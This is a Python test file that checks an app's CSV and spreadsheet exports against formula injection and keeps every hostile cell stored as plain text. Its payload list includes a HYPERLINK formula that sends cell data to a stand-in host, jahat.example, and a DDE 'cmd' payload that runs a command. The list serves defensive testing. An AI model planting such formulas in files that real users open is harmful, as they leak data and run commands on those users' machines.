"""Abuse case 14: words of citizens and lists that a spreadsheet would run as a formula come out as words."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import openpyxl
import pytest

from feedback_app import config
from feedback_app.reporting.workbook_page import Book
from feedback_app.safe_table import SafeTable, harmless

ROOT = config.project_root()
FORMULAS = (
    '=HYPERLINK("https://jahat.example/?"&A1,"klik")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "\n=1+1", "  =1+1", "=cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip


@pytest.mark.parametrize("words", FORMULAS)
def test_a_table_opened_in_a_spreadsheet_runs_nothing(words: str) -> None:
    written = io.StringIO()
    SafeTable(written).row(["unit", words, 3])
    [row] = csv.reader(io.StringIO(written.getvalue(), newline=""))
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(row)
    kept = io.BytesIO()
    book.save(kept)
    [cells] = openpyxl.load_workbook(kept).worksheets[0].iter_rows()
    assert [cell.data_type for cell in cells] == ["s", "s", "s"]
    assert row[1] == f"'{words}"


@pytest.mark.parametrize("words", FORMULAS)
def test_a_workbook_of_ours_runs_no_words(words: str) -> None:
    book = Book("Uji", "Uji", date(2026, 5, 12))
    page = book.page("satu", [20])
    page.line([words])
    [sheet] = openpyxl.load_workbook(io.BytesIO(book.done()))
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize("words", ["bagus", "a=b", "08123", "2,5", "", "'sudah"])
def test_other_words_stay_as_they_are(words: str) -> None:
    assert harmless(words) == words


def test_numbers_keep_their_sign() -> None:
    written = io.StringIO()
    SafeTable(written).row([-2, -0.5])
    assert written.getvalue() == "-2,-0.5\r\n"


def test_no_other_place_writes_tables() -> None:
    for path in (ROOT / "feedback_app").rglob("*.py"):
        if path.name != "safe_table.py":
            assert not re.search(r"csv\.(Dict)?[wW]riter\(", path.read_text()), path
    for path in (ROOT / "feedback_app").rglob("*.py"):
        if path.name != "workbook_page.py":
            assert not re.search(r"xlsxwriter\.Workbook\(|openpyxl\.Workbook\(", path.read_text()), path
